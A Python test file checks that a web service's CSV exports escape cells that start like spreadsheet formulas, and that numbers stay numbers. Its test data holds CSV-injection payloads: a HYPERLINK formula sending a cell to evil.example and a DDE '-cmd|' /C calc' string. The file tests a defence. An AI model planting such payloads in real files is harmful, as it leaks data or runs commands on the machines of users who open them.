"""Every CSV the service writes is safe to open in a spreadsheet (issue 13 §5):
a cell that starts like a formula is shown as text, numbers stay numbers."""

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from app.core.csvfile import safe_cell
from app.questionnaires.catalog import Catalog
from tests.answers import body, valid_answers
from tests.factories import make_campaign, make_counter, make_unit

# The figures, not access: read live results with a key (tests/reporting/test_editions.py
# covers what the public sees).
pytestmark = pytest.mark.usefixtures("reader")


APP = Path(__file__).resolve().parents[2] / "app"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_formula_starts_are_escaped_and_numbers_are_not() -> None:
    for bad in ("=1+1", "+1+1", "-1+2", "@SUM(A1)", "\tx", "\rx", HOSTILE):
        assert safe_cell(bad) == "'" + bad
    for fine in ("-3.5", "+2", "-0", "12", "Sở Tư pháp", "", "a=b", -3.5, 7, None):
        assert safe_cell(fine) == fine


def test_no_csv_writer_but_the_safe_one() -> None:
    """A new export that writes CSV itself would skip the escaping: all CSV writing
    goes through app/core/csvfile.py (SafeWriter)."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|import xlsxwriter|import openpyxl")
    offenders = [
        str(path.relative_to(APP))
        for path in APP.rglob("*.py")
        if path.name != "csvfile.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def _hostile_campaign(client: TestClient, session: Session, catalog: Catalog) -> None:
    p = make_unit(session, "P", name=HOSTILE)
    s1 = make_unit(session, "@S1", "department", p, name="-cmd|' /C calc'!A0")
    s2 = make_unit(session, "S2", "department", p, name="+" + HOSTILE)
    make_counter(session, "k-1", s1)
    make_counter(session, "k-2", s2)
    make_campaign(session, catalog, "C-CSV", [p], min_sample=1)
    for counter, level in (("k-1", 4), ("k-2", 2)):
        r = client.post(
            "/api/v1/submissions",
            json=body(catalog, counter=counter, answers=valid_answers(catalog, level=level)),
        )
        assert r.status_code == 201, r.text


def _cells(text: str) -> list[dict[str, Any]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_csv_endpoint_escapes_a_hostile_unit_name(
    client: TestClient, session: Session, catalog: Catalog
) -> None:
    _hostile_campaign(client, session, catalog)
    answers = [
        client.get("/api/v1/campaigns/C-CSV/indices", params={"format": "csv"}),
        client.get(
            "/api/v1/campaigns/C-CSV/indices",
            params={"level": "department"},
            headers={"accept": "text/csv"},
        ),
        client.get("/api/v1/campaigns/C-CSV/units/P/indices", params={"format": "csv"}),
    ]
    seen = 0
    for r in answers:
        assert r.status_code == 200, r.text
        assert r.headers["content-type"].startswith("text/csv")
        for row in _cells(r.text):
            for value in row.values():
                # No text cell a spreadsheet would run; numbers read as numbers.
                if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    float(value)
            if row["name"].startswith("'"):
                seen += 1
            if row["value"]:
                float(row["value"])
    assert seen > 0
    rows = _cells(answers[1].text)
    assert {r["unit"] for r in rows} == {"'@S1", "S2"}
    assert {r["name"] for r in rows} == {"'-cmd|' /C calc'!A0", "'+" + HOSTILE}
